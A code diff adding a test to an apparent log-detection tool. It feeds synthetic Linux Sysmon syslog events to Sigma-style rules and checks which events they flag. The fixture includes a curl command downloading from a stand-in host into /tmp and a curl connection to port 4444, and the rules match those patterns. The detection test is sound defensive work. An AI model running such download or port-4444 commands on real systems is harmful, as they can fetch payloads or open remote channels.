@@ -284,3 +284,48 @@ test('rules find the same events of Windows as XML and as JSON of evtx_dump and 
   const expected = [['10:00', '10:01'], ['10:00'], ['10:02'], ['10:02'], ['10:03'], ['10:04']];
   for (const { id, path } of sources) expect(ofSource(id), path).toEqual(expected);
 });
+
+test('rules about processes of Linux run on what Sysmon writes to syslog', async () => {
+  const folder = testFolder();
+  mkdirSync(join(folder, 'logs'));
+  const event = (second: number, id: number, data: Record<string, string>): string => {
+    const time = `2026-03-12T10:00:0${second}.000000Z`;
+    const handed = {
+      provider: 'Linux-Sysmon',
+      id,
+      channel: 'Linux-Sysmon/Operational',
+      root: null,
+      data,
+    };
+    const xml = xmlOf(handed, time).replace(/ xmlns="[^"]*"/, '');
+    return `Mar 12 10:00:0${second} web1 sysmon: ${xml}\n`;
+  };
+  writeFileSync(
+    join(folder, 'logs', 'syslog'),
+    `Mar 12 10:00:00 web1 sysmon[7]: Running...\n${event(1, 1, { Image: '/usr/bin/curl', CommandLine: 'curl -k https://192.0.2.7 &gt; /tmp/x' })}${event(2, 1, { Image: '/usr/bin/id', CommandLine: 'id' })}${event(3, 3, { Image: '/usr/bin/curl', DestinationPort: '4444' })}`,
+  );
+  const { open } = await testCase(folder);
+  await open.read({ kind: 'paths', paths: [join(folder, 'logs')] });
+  expect(open.sources().map(({ format }) => format)).toEqual(['sysmon-linux']);
+  const linux = (category: string, s: Record<string, unknown>) => ({
+    logsource: { product: 'linux', category },
+    detection: { s, condition: 's' },
+  });
+  const rules = [
+    linux('process_creation', { 'Image|endswith': '/curl', 'CommandLine|contains': '> /tmp/' }),
+    linux('network_connection', { 'Image|endswith': '/curl', DestinationPort: 4444 }),
+  ];
+  const set = rulesOf(rules.map((rule, at) => ({ title: `r${at}`, id: `r${at}`, ...rule })));
+  const run = new RuleRun(set, new Set(['sysmon-linux']));
+  await open.store.searchSet(run.queries, {
+    signal: new AbortController().signal,
+    found: (id, hits) => run.take(id, hits),
+  });
+  const seconds = run
+    .found()
+    .map(({ rule, hits }) => [rule.id, hits.map(({ us }) => (us / 1e6) % 60)]);
+  expect(seconds).toEqual([
+    ['r0', [1]],
+    ['r1', [3]],
+  ]);
+});
